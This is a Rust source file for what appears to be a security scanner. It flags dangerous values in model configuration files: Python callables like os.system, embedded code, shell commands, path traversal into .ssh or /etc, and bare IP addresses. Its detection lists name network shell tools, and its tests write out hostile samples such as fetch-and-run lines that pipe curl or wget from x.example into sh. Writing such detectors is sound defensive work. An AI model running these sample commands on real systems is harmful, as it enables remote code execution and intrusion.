//! What a value may be whatever its key: a function that runs commands, a program, a command, an address without a name,
//! a path that leads out. Loaders take code from more keys than anybody lists; what a value *is* tells it as well.
//!
//! Long because every kind of value has its few lines and its rows of a table here.

use super::{Act, Level, MAX_SAID, Reader, Said};
use crate::pickle::Effect;
use crate::python;

/// Values of one file that are read as programs.
const MAX_READ: usize = 256;
/// Letters of a program.
const MAX_PROGRAM: usize = 200_000;

impl Reader {
    pub(super) fn anywhere(&mut self, near: &str, text: &str, before: Option<&str>, at: u64) {
        let plain = !text.bytes().any(|byte| matches!(byte, b'.' | b':' | b'(' | b' ' | b'/' | b'\\'));
        if text.len() < 3 || plain && before.is_none() || self.of_words(near, text) {
            return;
        }
        if text.len() > MAX_PROGRAM {
            if is_program(text) || is_command(text) {
                self.limit("it holds longer programs than are examined");
            }
            return;
        }
        if let Some(path) = python::names_power(text) {
            self.power(&path, at);
        }
        if let Some(before) = before
            && let Some(path) = python::names_power(&format!("{before}.{text}"))
        {
            self.power(&path, at);
        }
        if let Some(climbs) = climbs_to(text) {
            self.tell_path(climbs, at);
        } else if bare(text) || odd_library(text) {
            self.tell_path(text, at);
        }
        let known = |said: &Said| said.offset == at;
        if let Some(code) = evaluated(text) {
            self.program_at(code, at);
        } else if is_program(text) && !self.config.nodes.iter().chain(&self.config.programs).any(known) {
            self.program_at(text.to_owned(), at);
        }
        if is_command(text) && !self.config.commands.iter().rev().take(4).any(|said| said.offset == at) {
            self.command_at(text.to_owned(), at);
        }
    }

    /// A mapping that has a module under one key and a function of it under another, or a command and its arguments.
    pub(super) fn together(&mut self, level: &Level, at: u64) {
        if level.list {
            return;
        }
        let of = |keys: &[&str]| {
            level.values.iter().find_map(|value| {
                let (key, value) = value.split_once('=')?;
                keys.contains(&key).then(|| value.trim_matches('"'))
            })
        };
        let module = of(&["module", "mod", "package", "library", "import", "module_name"]);
        let name =
            of(&["function", "func", "fn", "name", "attr", "method", "callable", "class", "function_name"]);
        if let (Some(module), Some(name)) = (module, name)
            && let Some(path) = python::names_power(&format!("{module}.{name}"))
        {
            self.power(&path, at);
        }
        if let Some(program) = of(&["command", "cmd", "program", "runtimeExecutable"])
            && !level.given.is_empty()
            && self.config.commands.len() < super::MAX_COMMANDS
        {
            let (path, text) = (self.path(), format!("{program} {}", level.given));
            self.config.commands.push(Said { path, text, offset: at });
        }
    }

    /// A program, wherever it stands.
    pub(super) fn program_at(&mut self, text: String, at: u64) {
        if self.config.nodes.len() < MAX_READ {
            let path = self.path();
            self.config.nodes.push(Said { path, text, offset: at });
        } else {
            self.limit("it holds more programs than are examined");
        }
    }

    /// A command, wherever it stands.
    pub(super) fn command_at(&mut self, text: String, at: u64) {
        let whole = text.len() <= super::MAX_COMMAND;
        if self.config.commands.len() < super::MAX_COMMANDS {
            let (path, text) = (self.path(), text.chars().take(super::MAX_COMMAND).collect());
            self.config.commands.push(Said { path, text, offset: at });
        }
        if !whole || self.config.commands.len() >= super::MAX_COMMANDS {
            self.limit("it holds more or longer commands than are examined");
        }
    }

    pub(super) fn limit(&mut self, why: &str) {
        if !self.config.limits.iter().any(|known| known == why) {
            self.config.limits.push(why.to_owned());
        }
    }

    pub(super) fn power(&mut self, path: &str, at: u64) {
        let known = |item: &super::Item| item.offset == at && item.act == Act::Calls;
        if !self.config.items.iter().any(known) && !self.told(path, at) {
            self.item(Act::Calls, path, Effect::Executes, at);
        }
    }

    /// Whether a function was told a few lines before: what names it may be read in several ways.
    pub(super) fn told(&self, value: &str, at: u64) -> bool {
        const NEAR: u64 = 200;
        let known = |item: &super::Item| {
            item.act == Act::Calls && item.value == value && at.abs_diff(item.offset) < NEAR
        };
        self.config.items.iter().rev().take(16).any(known)
    }

    fn tell_path(&mut self, text: &str, at: u64) {
        if self.config.paths.len() < MAX_SAID && !self.config.paths.iter().any(|said| said.offset == at) {
            let (path, text) = (self.path(), text.chars().filter(|c| !c.is_control()).take(200).collect());
            self.config.paths.push(Said { path, text, offset: at });
        }
    }
}

/// A path that climbs, to a place where it lets somebody in or tells what nobody should know.
fn climbs_to(text: &str) -> Option<&str> {
    const PLACES: [&str; 9] =
        ["etc/", "root/", ".ssh/", "proc/", "var/spool/", ".aws/", ".bashrc", "usr/lib/", "site-packages/"];
    let rest = text.trim_start_matches("file://").trim_start_matches("./");
    let up = rest.split(['/', '\\']).filter(|part| *part == "..").count();
    let climbs = up >= 2 && !text.contains(char::is_whitespace) && text.len() < 300;
    (climbs && PLACES.iter().any(|place| text.contains(place))).then_some(text)
}

/// An address of a machine without a name, outside of what a machine has around it.
fn bare(text: &str) -> bool {
    const SCHEMES: [&str; 8] = ["http", "https", "ftp", "ws", "wss", "tcp", "git+http", "git+https"];
    let Some((scheme, rest)) = text.split_once("://") else { return false };
    if !SCHEMES.contains(&scheme) || text.contains(char::is_whitespace) {
        return false;
    }
    let host = rest.split(['/', ':', '?']).next().unwrap_or("");
    let host = host.rsplit('@').next().unwrap_or(host);
    let parts: Vec<Option<u8>> = host.split('.').map(|part| part.parse().ok()).collect();
    matches!(parts[..], [Some(first), Some(second), Some(_), Some(_)]
        if !matches!(first, 0 | 10 | 127 | 224..)
            && (first, second) != (192, 168)
            && (first, second) != (169, 254)
            && !(first == 100 && (64..128).contains(&second))
            && !(first == 172 && (16..32).contains(&second)))
}

/// A library of machine code in a place where everybody may write.
fn odd_library(text: &str) -> bool {
    [".so", ".dylib", ".dll"].iter().any(|end| text.ends_with(end))
        && ["/tmp/", "/dev/shm/", "/var/tmp/"].iter().any(|place| text.starts_with(place))
}

/// The expression of Python in a value that bundles of MONAI evaluate: it begins with a sign, and names other values
/// with another one.
fn evaluated(text: &str) -> Option<String> {
    let code = text.strip_prefix('$')?;
    let plain = code.starts_with(|c: char| c.is_alphabetic() || matches!(c, '_' | '[' | '@' | '\'' | '"'));
    (plain && code.contains('(')).then(|| code.replace('@', "").replace("::", "."))
}

/// Whether a text begins as a program of Python does. What it does is for the machine that follows it to tell.
pub(super) fn is_program(text: &str) -> bool {
    const CALLS: [&str; 24] = [
        "__import__(",
        "__import__ (",
        "exec(",
        "exec (",
        "eval(",
        "eval (",
        "compile(",
        "getattr(",
        "setattr(",
        "globals(",
        "vars(",
        "breakpoint(",
        "os.",
        "subprocess.",
        "pty.",
        "runpy.",
        "shutil.",
        "pickle.",
        "marshal.",
        "ctypes.",
        "importlib.",
        "builtins.",
        "__builtins__",
        "().__class__",
    ];
    let start = text.trim_start().trim_start_matches(['(', '[', '{']).trim_start();
    text.contains('(') && (begins(start) || CALLS.iter().any(|call| start.starts_with(call)) || later(text))
}

/// Whether a text begins with a statement of Python, and not with a word that is also one of people.
fn begins(start: &str) -> bool {
    let name =
        |rest: &str| rest.trim_start().starts_with(|c: char| c.is_alphabetic() || matches!(c, '_' | '.'));
    let after = |word: &str| start.strip_prefix(word).filter(|rest| rest.starts_with([' ', '\t']));
    after("import").is_some_and(name)
        || after("from").is_some_and(|rest| name(rest) && rest.contains("import"))
        || ["def", "class", "async def"]
            .iter()
            .any(|word| after(word).is_some_and(|rest| name(rest) && rest.contains(':')))
        || ["with", "for", "while", "if"]
            .iter()
            .any(|word| after(word).is_some_and(|rest| rest.contains('(') && rest.contains(':')))
        || start.strip_prefix("try:").is_some()
        || start.strip_prefix("lambda").is_some_and(|rest| rest.contains(':'))
        || start.strip_prefix('@').is_some_and(|rest| name(rest) && rest.contains("\ndef "))
}

/// Whether a text imports something in one of its later lines, or in a statement behind another one.
fn later(text: &str) -> bool {
    let reaches =
        ["__import__(", "exec(", "eval(", "os.", "subprocess", "importlib", "pickle", "marshal", "socket"];
    ["\nimport ", "\nfrom ", ";import ", "; import ", ":import ", ": import "]
        .iter()
        .any(|way| text.contains(way))
        && reaches.iter().any(|word| text.contains(word))
}

/// Whether a text is nothing but a command that does more than start a program.
pub(super) fn is_command(text: &str) -> bool {
    const PROGRAMS: [&str; 66] = [
        "curl",
        "wget",
        "sh",
        "bash",
        "zsh",
        "dash",
        "ash",
        "ksh",
        "fish",
        "eval",
        "exec",
        "echo",
        "printf",
        "base64",
        "base32",
        "xxd",
        "openssl",
        "python",
        "python2",
        "python3",
        "perl",
        "ruby",
        "node",
        "deno",
        "bun",
        "php",
        "lua",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "telnet",
        "powershell",
        "powershell.exe",
        "pwsh",
        "cmd",
        "cmd.exe",
        "busybox",
        "npx",
        "npm",
        "pip",
        "pip3",
        "uv",
        "uvx",
        "pipx",
        "mshta",
        "certutil",
        "bitsadmin",
        "regsvr32",
        "rundll32",
        "rm",
        "cp",
        "mv",
        "tee",
        "cat",
        "tar",
        "chmod",
        "crontab",
        "ssh",
        "scp",
        "sftp",
        "ftp",
        "tftp",
        "mkfifo",
        "dd",
        "find",
    ];
    let acts = text.contains(['|', '$', '`', '>', '<', ';', '&'])
        || text.contains("http://")
        || text.contains(" -e ")
        || text.contains(" -c ")
        || text.contains(" -rf ")
        || text.contains("/urlcache")
        || text.contains("-urlcache");
    if !acts || !text.trim().contains(' ') {
        return false;
    }
    let start = text.trim_start_matches(['(', '{', '!', '@', '-', ' ']);
    let parts = text.split([';', '\n', '|', '&']).take(64);
    start.starts_with("$(") || parts.map(started).any(|program| PROGRAMS.contains(&program))
}

/// The program that a part of a command line starts, without its folder, past what only prepares it.
fn started(part: &str) -> &str {
    const PREPARES: [&str; 18] = [
        "sudo", "env", "nohup", "setsid", "exec", "time", "timeout", "nice", "ionice", "stdbuf", "command",
        "then", "do", "else", "if", "while", "until", "xargs",
    ];
    let mut words =
        part.split_whitespace().map(|word| word.trim_matches(['(', ')', '{', '}', '!', '@', '"', '\'']));
    let program = words.find(|word| {
        let assigns = word.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        let counts = word.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b's' | b'm'));
        !(assigns || counts || word.starts_with('-') || PREPARES.contains(word))
    });
    let program = program.unwrap_or("");
    program.rsplit(['/', '\\']).next().unwrap_or(program)
}

#[cfg(test)]
mod tests {
    use mantlet_vocab::MemorySource;

    use super::super::{Config, json, lines, toml, yaml};
    use crate::pickle::Effects;

    fn read(text: &str) -> Config {
        json(&MemorySource::new(text.as_bytes()), Effects::default())
    }

    #[test]
    fn values_are_judged_whatever_their_key() {
        for hostile in [
            r#"{"logits": ["os:system"]}"#,
            r#"{"a": {"source": "subprocess.getoutput"}}"#,
            r#"{"custom": {"module": "os", "function": "system"}}"#,
            r#"{"pair": ["os", "popen"]}"#,
            r#"{"output_fn": "os.system"}"#,
            r#"{"decoder": "subprocess.getoutput"}"#,
            r#"{"context": "os.system"}"#,
            r#"{"input_transform": "os.popen"}"#,
            r#"{"code": "os.system"}"#,
            r#"[{"hook": "os.system"}]"#,
            r#"{"rules": {"score": "os.system"}}"#,
            r#"{"outputs": {"hook": "pty.spawn"}}"#,
            r#"{"vocab": {"hook": "os.system"}}"#,
            r#"{"ignore": {"then": "os.system"}}"#,
        ] {
            assert_eq!(read(hostile).items.len(), 1, "{hostile}");
        }
        for plain in [
            r#"{"act": "torch.nn.functional.relu"}"#,
            r#"{"banned-api": ["os.system"]}"#,
            r#"[{"code": "os.system"}]"#,
            r#"{"pair": ["os", "path"]}"#,
            r#"{"rules": [{"id": "a", "pattern": "os.system"}]}"#,
            r#"{"ignore": ["os.system"]}"#,
            r#"{"vocab": [["os.system", -3.5]]}"#,
            r#"{"id2label": {"7": "os.system"}}"#,
            r#"{"docs": [{"title": "os.popen", "text": "runs it"}]}"#,
            r#"{"title": "os.popen"}"#,
            r#"["a", "b", "c", "d", "os.system"]"#,
        ] {
            assert_eq!(read(plain).items.len(), 0, "{plain}");
        }
        assert_eq!(read(r#"{"path": "../../../../root/.ssh/x"}"#).paths.len(), 1);
        assert_eq!(read(r#"{"path": "../../data/x.csv"}"#).paths.len(), 0);
        assert_eq!(read(r#"{"base": "http://198.51.100.9/a"}"#).paths.len(), 1);
        assert_eq!(read(r#"{"base": "http://192.168.1.9/a"}"#).paths.len(), 0);
        assert_eq!(read(r#"{"hook": "import os\nos.system('id')"}"#).nodes.len(), 1);
        let nodes = |text: &str| read(text).nodes.len();
        assert_eq!(nodes(r#"{"post": "import os\ngetattr(os, 'sys' + 'tem')('id')"}"#), 1);
        assert_eq!(nodes(r#"{"warm": "import pickle\npickle.loads(bytes.fromhex('80'))"}"#), 1);
        assert_eq!(nodes(r#"{"x": "try:\n  import os\nfinally: os.system('id')"}"#), 1);
        assert_eq!(nodes(r#"{"x": "imports of goods (and subprocesses)", "y": "from a to z (all)"}"#), 0);
        assert_eq!(nodes(r#"{"example_code": "import os\nos.system('id')"}"#), 0);
        for command in [
            "cd /tmp && wget -qO a http://x.example/a; sh a",
            "X=1 sh -c 'curl http://x.example | sh'",
            "timeout 5 /usr/bin/python3 -c 'print(1)' > a",
            "if true; then curl http://x.example/a | sh; fi",
        ] {
            let text = format!("{{\"x\": \"{command}\"}}");
            assert_eq!(read(&text).commands.len(), 1, "{command}");
        }
        assert_eq!(read(r#"{"x": "see http://x.example; it says more"}"#).commands.len(), 0);
        let read = read(r#"{"a": {"command": "npx", "args": ["-y", "http://x.example/a.tgz"]}}"#);
        assert!(read.commands.iter().any(|said| said.text == "npx -y http://x.example/a.tgz"));
    }

    #[test]
    fn settings_of_other_forms_are_read_as_configurations() {
        let items = |text: &str| lines(text, Effects::default()).items.len();
        assert_eq!(items("[handlers]\nfn = os.system\n"), 1);
        assert_eq!(items("run.fn = @os.system\n"), 1);
        assert_eq!(items("# fn = os.system\nfn = os.path.join\n"), 0);
        assert_eq!(toml("[a.b]\nhook = \"os.system\"\n", Effects::default()).items.len(), 1);
        assert_eq!(toml("a = [1, 2]\nb = \"os.getcwd\"\n", Effects::default()).items.len(), 0);
        assert_eq!(yaml("a:\n  b: os.system\n", Effects::default()).items.len(), 1);
        assert_eq!(lines("url: http://198.51.100.9/s\n", Effects::default()).paths.len(), 1);
    }
}
